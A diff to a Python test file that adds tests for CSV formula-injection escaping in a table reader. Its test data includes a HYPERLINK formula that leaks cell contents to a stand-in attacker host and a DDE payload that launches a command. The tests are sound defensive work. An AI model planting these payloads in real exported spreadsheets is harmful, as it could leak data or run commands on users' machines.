@@ -6,6 +6,8 @@ from pathlib import Path
 
 import openpyxl
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from placelab.core.errors import InputError
 from placelab.core.io.tables import Table, read_table
@@ -233,3 +235,44 @@ def test_it_names_the_sheet_row_with_more_cells_than_the_header_in_xlsx(tmp_path
 
     assert (error.file, error.row) == (str(path), 3)
     assert "3 cells but the header has 2" in error.detail
+
+
+# --- formulas in exported cells (CSV injection) -------------------------------------------------
+
+# (A cell starting with a tab or a line break is one too, but read_table strips those spaces.)
+ATTACKS = ('=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+SUM(1,2)", "@cmd|' /C calc'!A0",
+           "-2+3", "'=quoted already", "''two quotes")  # fmt: skip
+
+
+def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text_and_read_back_as_it_was(tmp_path):
+    import csv
+
+    from placelab.core.io.tables import FORMULA_STARTS, csv_cell
+
+    path = tmp_path / "people.csv"
+    with path.open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["id", "name"])
+        writer.writerows([f"p{n}", csv_cell(name)] for n, name in enumerate(ATTACKS))
+    with path.open(encoding="utf-8", newline="") as handle:
+        written = [row[1] for row in list(csv.reader(handle))[1:]]
+    assert all(cell[0] not in FORMULA_STARTS for cell in written)  # a spreadsheet shows text
+    assert [cells["name"] for _, cells in read_table(path).rows] == list(ATTACKS)
+
+
+def test_a_name_that_starts_with_an_apostrophe_of_its_own_keeps_it(tmp_path):
+    from placelab.core.io.tables import csv_cell
+
+    assert csv_cell("'Ohana Trust") == "'Ohana Trust"
+    path = tmp_path / "people.csv"
+    path.write_text("id,name\np1,'Ohana Trust\n", encoding="utf-8")
+    assert read_table(path).rows[0][1]["name"] == "'Ohana Trust"
+
+
+@given(st.text(max_size=12))
+def test_any_text_reads_back_as_written(text):
+    from placelab.core.io.tables import FORMULA_STARTS, _from_csv_cell, csv_cell
+
+    cell = csv_cell(text)
+    assert _from_csv_cell(cell) == text
+    assert cell[:1] not in FORMULA_STARTS
